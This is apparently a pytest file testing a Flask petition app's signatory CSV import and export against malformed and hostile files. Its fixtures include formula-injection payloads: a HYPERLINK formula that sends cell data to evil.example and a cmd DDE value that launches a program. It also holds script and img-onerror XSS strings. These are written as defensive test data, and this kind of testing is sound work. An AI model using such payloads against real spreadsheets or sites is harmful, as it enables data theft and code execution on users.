"""Signatories imported from malformed or hostile CSV files, by `flask signatures import` and by
the coordinators' upload page: binary garbage, invalid UTF-8, UTF-16, 20 MB, 100,000 rows, a row
of 10,000 cells, a quote never closed, NUL bytes and markup are refused with a message that says
what to do (nothing stored) or previewed escaped; and values that a spreadsheet would run as a
formula come out of the coordinators' CSV and XLSX exports as text."""

from __future__ import annotations

import csv
import io
import re
import time
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from openpyxl import load_workbook

from signon.extensions import db
from signon.models import Signature
from signon.services.imports.signature_imports import HEADER
from tests.hostile import live_markup
from tests.sessions import SLUG, log_in, seeding

HEADER_LINE = ",".join(HEADER) + "\n"
GOOD_ROW = "Hostile Import Org,National,Tucson,United States,,Ana Ruiz,Director,ana@hostile.example.org\n"


def rows(count: int, width: int = 0) -> str:
    padding = "x" * width
    return "".join(
        f"Org {n} {padding},National,Tucson,United States,,Person {n},Director,p{n}@example.org\n" for n in range(count)
    )


MALFORMED: dict[str, tuple[bytes, str]] = {
    "binary-garbage": (bytes(range(256)) * 64, "not UTF-8"),
    "invalid-utf8": ((HEADER_LINE + GOOD_ROW).encode() + b"Caf\xe9,National\n", "not UTF-8"),
    "utf16-with-bom": ((HEADER_LINE + GOOD_ROW).encode("utf-16"), "not UTF-8"),
    "20-megabytes-100000-rows": ((HEADER_LINE + rows(100_000, width=130)).encode(), "more than 20,000 signatories"),
    "row-of-10000-cells": ((HEADER_LINE + ",".join(["x"] * 10_000) + "\n").encode(), "expected 8 cells"),
    "quote-never-closed": ((HEADER_LINE + '"Open Quote Org,National' + "\n" + GOOD_ROW).encode(), "quote left open"),
    "nul-bytes": ((HEADER_LINE + GOOD_ROW.replace("Hostile", "Hos\x00tile")).encode(), "control characters"),
    "cell-over-the-csv-limit": ((HEADER_LINE + "y" * 200_000 + GOOD_ROW).encode(), "not readable as CSV"),
    "header-only": (HEADER_LINE.encode(), "no signatories below the header"),
    "empty": (b"", "the file is empty"),
    "markup-header": (b"<script>alert(1)</script>,x\n" + GOOD_ROW.encode(), "the header must be"),
    "bidi-override-name": ((HEADER_LINE + GOOD_ROW.replace("Hostile", "Hos\u202etile")).encode(), "control characters"),
}


def signatures(app: Any) -> list[Signature]:
    with seeding(app):
        return list(db.session.execute(db.select(Signature)).scalars())


def cli_import(runner: Any, tmp_path: Path, content: bytes) -> Any:
    path = tmp_path / "signatories.csv"
    path.write_bytes(content)
    return runner.invoke(args=["signatures", "import", SLUG, str(path)])


@pytest.mark.parametrize(("content", "message"), MALFORMED.values(), ids=MALFORMED.keys())
def test_the_command_refuses_a_malformed_file_saying_why_and_imports_nothing(
    app, runner, tmp_path, team, content, message
):
    before = len(signatures(app))
    started = time.monotonic()

    result = cli_import(runner, tmp_path, content)

    assert result.exit_code != 0
    assert message in result.output, result.output[:2000]
    assert "Traceback" not in result.output
    assert len(signatures(app)) == before
    assert time.monotonic() - started < 20


# --------------------------------------------------------------------------- formula injection

FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    "=1+1",
]


def formula_file() -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(HEADER)
    for n, value in enumerate(FORMULAS):
        email = f"{value[:1]}x{n}@example.org" if value[0] != "@" else f"x{n}@example.org"
        writer.writerow([f"{value} {n}", "National", value, value, "", value, value, email])
    return buffer.getvalue().encode()


def exported(runner: Any, tmp_path: Path, fmt: str) -> list[dict[str, str]]:
    output = tmp_path / f"signatures.{fmt}"
    result = runner.invoke(args=["statements", "export", SLUG, "--format", fmt, "--output", str(output)])
    assert result.exit_code == 0, result.output
    if fmt == "csv":
        return list(csv.DictReader(io.StringIO(output.read_text(encoding="utf-8-sig"))))
    sheet = load_workbook(output).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    return [dict(zip(values[0], row, strict=True)) for row in values[1:]]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_imported_formulas_come_out_of_the_exports_as_text(app, runner, tmp_path, team, fmt):
    result = cli_import(runner, tmp_path, formula_file())
    assert result.exit_code == 0, result.output

    rows_out = [row for row in exported(runner, tmp_path, fmt) if row["user_agent"] == "csv import"]

    assert len(rows_out) == len(FORMULAS)
    for row in rows_out:
        for column, value in row.items():
            assert not str(value or "").startswith(("=", "+", "-", "@")), (column, value)
        for column in ("organization", "city", "country", "contact_name", "role"):
            assert str(row[column]).startswith("'") and str(row[column])[1] in "=+-@", (column, row[column])
    with seeding(app):
        stored = db.session.execute(db.select(Signature.organization_name).where(Signature.user_agent == "csv import"))
        assert sorted(stored.scalars()) == sorted(f"{value} {n}" for n, value in enumerate(FORMULAS))


# --------------------------------------------------------------------------- the upload page

IMPORT = f"/coordinator/s/{SLUG}/import"

UPLOADS: dict[str, tuple[bytes, int, str]] = {
    "binary-garbage": (bytes(range(256)) * 64, 422, "The file is not UTF-8 text"),
    "utf16-with-bom": ("Name,Email\nAna,ana@example.org\n".encode("utf-16"), 422, "The file is not UTF-8 text"),
    "nul-bytes": (b"Name,Email\nA\x00na,ana@example.org\n", 422, "binary data"),
    "20-megabytes": (b"Name,Email\n" + b"Ana,ana@example.org\n" * 1_050_000, 413, "larger than 2 MB"),
    "100000-rows": (b"Name,Email\n" + b"A,a@example.org\n" * 100_000, 422, "more than 5,000 rows"),
    "row-of-10000-cells": (
        (",".join(f"c{n}" for n in range(10_000)) + "\nA,b\n").encode(),
        422,
        "more than 500 columns",
    ),
    "cell-over-the-csv-limit": (b"Name,Email\n" + b"y" * 200_000 + b",a\n", 422, "not readable as CSV"),
    "titles-only": (b"Name,Email\n", 422, "no rows below them"),
    "empty": (b"", 422, "The file is empty"),
}


def upload(client: Any, content: bytes) -> Any:
    data = {"file": (io.BytesIO(content), "responses.csv")}
    return client.post(IMPORT, data=data, content_type="multipart/form-data")


@pytest.mark.parametrize(("content", "status", "message"), UPLOADS.values(), ids=UPLOADS.keys())
def test_the_upload_page_refuses_a_malformed_file_saying_why(app, client, team, content, status, message):
    log_in(client)
    before = len(signatures(app))

    response = upload(client, content)

    assert response.status_code == status
    assert message in response.get_data(as_text=True)
    assert len(signatures(app)) == before


MARKUP_CSV = (
    'Organization name,<script>alert(1)</script>,"<img src=x onerror=alert(1)>",Email,Type,Contact\n'
    '"<script>alert(2)</script>",Tucson,"=HYPERLINK(""https://evil.example"")",a@example.org,National,Ana\n'
    '"Quote Never Closed,Tucson,US,b@example.org,National,Ben\n'
)


def test_markup_in_an_uploaded_file_is_shown_escaped_on_the_mapping_and_preview_pages(app, client, team):
    log_in(client)

    response = upload(client, MARKUP_CSV.encode())

    assert response.status_code == 303, response.get_data(as_text=True)[:500]
    mapping = urlsplit(response.headers["Location"]).path
    page = client.get(mapping).get_data(as_text=True)
    preview = client.get(
        mapping,
        query_string={
            "organization": "0",
            "city": "1",
            "country": "2",
            "email": "3",
            "category": "4",
            "contact_name": "5",
        },
    ).get_data(as_text=True)
    for html in (page, preview):
        assert "<script>alert" not in html and "<img src=x" not in html
        assert live_markup(html) == []
    assert "&lt;script&gt;alert(2)&lt;/script&gt;" in preview
    assert re.search(r"Quote Never Closed", preview)
